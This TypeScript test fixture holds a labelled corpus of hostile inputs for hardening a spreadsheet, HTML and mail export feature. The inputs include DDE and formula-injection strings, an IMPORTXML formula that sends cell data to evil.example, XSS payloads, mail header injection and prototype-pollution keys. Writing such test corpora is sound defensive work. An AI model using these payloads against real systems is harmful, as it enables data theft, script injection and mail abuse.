/**
 * What people paste, and what a person might type on purpose: each text with why it is hostile. Every test in this folder
 * sends all of them through its entrance; a new one is one line here.
 */

export interface Hostile {
  readonly name: string;
  /** What goes wrong where it is not kept as text. */
  readonly why: string;
  readonly text: string;
}

const hostile = (name: string, why: string, text: string): Hostile => ({ name, why, text });

const FORMULAS: readonly Hostile[] = [
  hostile('formula', 'a cell computes it', '=1+1'),
  hostile('formula in the middle of lines', 'the first line is one', '=SUM(A1:A9)\n第二行'),
  hostile('plus', 'begins a formula', '+1+1'),
  hostile('minus', 'begins a formula', '-2+3'),
  hostile('at', 'begins a formula in Excel', '@SUM(1,1)'),
  hostile('tab before a formula', 'programs take the blank off and compute the rest', '\t=1+1'),
  hostile('line break before a formula', 'as with a tab', '\r\n=1+1'),
  hostile('unseen sign before a formula', 'a program that takes it off computes the rest', '\u200b=1+1'),
  hostile('full-width formula', 'Excel in Chinese takes it as a formula', '＝1+1'),
  hostile('apostrophe', 'the sheet takes the first one off', "'=1+1"),
  hostile('two apostrophes', 'only one may be lost, and none is', "''引用''"),
  hostile('DDE', 'Excel offers to start a program', "=cmd|' /C calc'!A0"),
  hostile('DDE behind a sum', 'the same behind what looks harmless', "@SUM(1+1)*cmd|' /C calc'!A0"),
  hostile('IMPORTXML', 'sends the sheet’s content to a stranger', '=IMPORTXML("http://evil.example/?"&A1,"//a")'),
  hostile('IMPORTRANGE', 'opens another file', '=IMPORTRANGE("1abc","A1")'),
  hostile('HYPERLINK', 'a link whose words say something else', '=HYPERLINK("http://evil.example","请点这里")'),
  hostile('IMAGE', 'tells a stranger that the sheet was opened', '=IMAGE("http://evil.example/p.gif")'),
  hostile('array formula', 'fills the cells beside it', '=ARRAYFORMULA(A1:B9)'),
];

const NUMBERS_AND_DATES: readonly Hostile[] = [
  ...[
    '007',
    '1/2',
    '5%',
    '1e3',
    'TRUE',
    '2023-05',
    '2023年5月1日',
    '12:30',
    '￥5',
    '$5',
    '.5',
    '1,000',
    '#N/A',
    'May 5',
  ],
].map((text) => hostile(text, 'typed into a cell it becomes a number, a date, an amount, a yes or an error', text));

const MARKUP: readonly Hostile[] = [
  hostile('script', 'runs in a page', '<script>alert(1)</script>'),
  hostile('script that ends ours', 'ends the page’s own script', '</script><script>alert(1)</script>'),
  hostile('picture that fails', 'runs in a page', '<img src=x onerror=alert(1)>'),
  hostile('attribute breakout', 'ends the attribute it stands in', '" onmouseover="alert(1)" x="'),
  hostile('attribute breakout, single', 'the same', "' onfocus='alert(1)' x='"),
  hostile(
    'style breakout',
    'ends a style and loads a picture',
    '</style><style>body{background:url(http://evil.example)}',
  ),
  hostile('javascript link', 'runs when clicked', '<a href="javascript:alert(1)">附件</a>'),
  hostile('data link', 'a page inside a link', '<a href="data:text/html;base64,PHNjcmlwdD4=">附件</a>'),
  hostile('iframe', 'a stranger’s page inside ours', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  hostile('form', 'asks for a password in our name', '<form action="http://evil.example"><input name=p></form>'),
  hostile('comment', 'hides what follows', '<!-- 之后都看不见'),
  hostile('entity', 'must be seen as it was typed', '&lt;b&gt;&amp;amp;&#60;'),
  hostile('template', 'a template would put it in', `<?!= evil ?> $\{1+1} {{1+1}} "__DATA__"`),
  hostile('replacement signs', 'a replacement would put something in', "$& $1 $` $' $$"),
  hostile('CDATA end', 'ends a part of XML', ']]>&<>"\''),
  hostile('XML escape', 'reads as a control character in a workbook', '_x000D_ _x0041_'),
];

const MAIL: readonly Hostile[] = [
  hostile('header', 'adds a recipient', '汇总\r\nBcc: evil@example.com'),
  hostile('header, bare line feed', 'the same', '汇总\nTo: evil@example.com\n\n正文'),
  hostile('boundary', 'ends a part of the mail', '--=_NodeMailer\r\nContent-Type: text/html\r\n\r\n<b>x</b>'),
  hostile('dot', 'ends a mail on its way', '第一行\r\n.\r\n第二行'),
  hostile('addresses', 'more recipients in one', 'a@example.cn, evil@example.com; evil2@example.com'),
  hostile('encoded word', 'read as a header it is something else', '=?utf-8?B?QmNjOiBldmls?='),
];

const UNSEEN: readonly Hostile[] = [
  hostile('right-to-left override', 'shows gpj.exe as exe.jpg', '报告\u202egpj.exe'),
  hostile('isolates', 'turns what follows', '甲\u2067乙\u2066丙'),
  hostile('zero-width', 'two names that look like one', '保\u200b卫\u2060科'),
  hostile('byte order mark', 'taken off by readers', '\ufeff开头'),
  hostile('lone surrogate', 'no text in any encoding', '半个\ud83d字'),
  hostile('lone low surrogate', 'the same', '\ude00半个'),
  hostile('combining flood', 'a line as high as a page', `${'\u0301'.repeat(500)}a`),
  hostile('NUL', 'ends a text in other programs; no XML holds it', '前\u0000后'),
  hostile('control characters', 'no XML holds them', '\u0001\u0008\u000b\u001f\u007f\u0085\ufffe'),
  hostile('terminal', 'colours, moves and renames the window', '\u001b[31m\u001b]0;x\u0007\u009b2J红'),
  hostile('line separators', 'end a line of a script', '甲\u2028乙\u2029丙'),
  hostile('emoji', 'beyond the basic plane, joined', '👨‍👩‍👧‍👦🏳️‍🌈𠮷'),
];

const PROTOTYPE: readonly Hostile[] = [...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']].map(
  (text) => hostile(text, 'as a key it finds what every object has', text),
);

const LONG: readonly Hostile[] = [
  hostile('32,767 characters', 'the most an .xlsx cell holds', `长${'文'.repeat(32_766)}`),
  hostile('32,768 characters', 'one more', `长${'文'.repeat(32_767)}`),
  hostile('50,000 characters', 'the most a cell holds', `长${'文'.repeat(49_999)}`),
  hostile(
    '49,999 characters of a formula',
    'with the apostrophe before it the most a cell holds',
    `=${'1'.repeat(49_998)}`,
  ),
  hostile('50,000 quotes', 'six times as long in HTML', '"'.repeat(50_000)),
  hostile('a run of spaces', 'patterns begin anew at each of them', `甲${' '.repeat(30_000)}乙`),
];

export const CORPUS: readonly Hostile[] = [
  ...FORMULAS,
  ...NUMBERS_AND_DATES,
  ...MARKUP,
  ...MAIL,
  ...UNSEEN,
  ...PROTOTYPE,
  ...LONG,
];

/** Ways of typing one name are one name: width, case and unseen signs do not tell two apart. */
const asName = (text: string): string =>
  text
    .normalize('NFKC')
    .replace(/[\s\u200b\u2060\ufeff]/g, '')
    .toLowerCase();

/** Those that can be the name of something: of one line, no longer than a name, each another name. */
export const NAMES: readonly Hostile[] = CORPUS.filter(
  ({ text }, at) =>
    text.length <= 80 &&
    text === text.trim() &&
    !/[\n\r\u2028\u2029\u0085]/.test(text) &&
    CORPUS.findIndex((other) => asName(other.text) === asName(text)) === at,
);

/** One more than a cell holds. */
export const TOO_LONG = '长'.repeat(50_001);

/** Values a page or a program may send instead of what is asked for. */
export const NO_REQUESTS: readonly (readonly [string, unknown])[] = [
  ['nothing', null],
  ['a number', 5],
  ['a text', '2023-05'],
  ['a list', [[], {}]],
  ['no entry', {}],
  ['a list for an entry', { month: ['2023-05'], text: ['甲'], year: [2023] }],
  ['an object for an entry', { month: { toString: '2023-05' }, text: {}, year: {} }],
  ['a number for a month', { month: 202305, text: 5, year: 'x' }],
  ['no number', { year: 1e308, text: '甲' }],
  ['half a year', { year: 2023.5, text: '甲' }],
  ['a prototype', JSON.parse('{"__proto__":{"month":"2023-05","year":2023},"constructor":{"prototype":{}}}')],
  ['a text too long', { month: '5'.repeat(1_000_000), text: '甲'.repeat(500_001), year: 2023 }],
  ['a language nobody speaks', { text: '甲', year: 2023, language: '__proto__' }],
  ['ten thousand entries', Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`k${at}`, at]))],
  ['a list of a million', { month: Array.from({ length: 1_000_000 }, () => 0) }],
];

/** So deep that a function which walks it by calling itself runs out of stack. */
export const DEEP_JSON = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
